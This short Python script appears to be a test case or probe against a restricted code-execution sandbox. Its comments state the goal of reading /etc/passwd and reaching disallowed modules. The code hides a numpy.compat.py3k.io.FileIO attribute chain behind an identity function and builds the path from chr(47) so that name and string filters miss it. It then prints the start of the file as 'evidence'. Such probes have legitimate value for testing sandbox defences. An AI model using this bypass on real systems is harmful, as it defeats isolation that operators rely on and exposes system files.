# source: numpy 1.24 numpy/compat/py3k.py (imports io, os, sys) and numpy/lib/utils.py (source/info/_makenamedict __import__, imports types); README hidden-chain rule
# family: module attribute chain hidden behind a function return, reaching modules/helpers the name lists miss
# goal: read /etc/passwd via io.FileIO / import a module by name / reach a non-allowed module (types, textwrap)
import json
import numpy as np
import pandas as pd


def g(x):
    return x


P = chr(47) + "etc" + chr(47) + "passwd"
m = g(np).compat.py3k.io.FileIO(P).read()[:80].decode()
print(json.dumps({"evidence": m}, default=str))
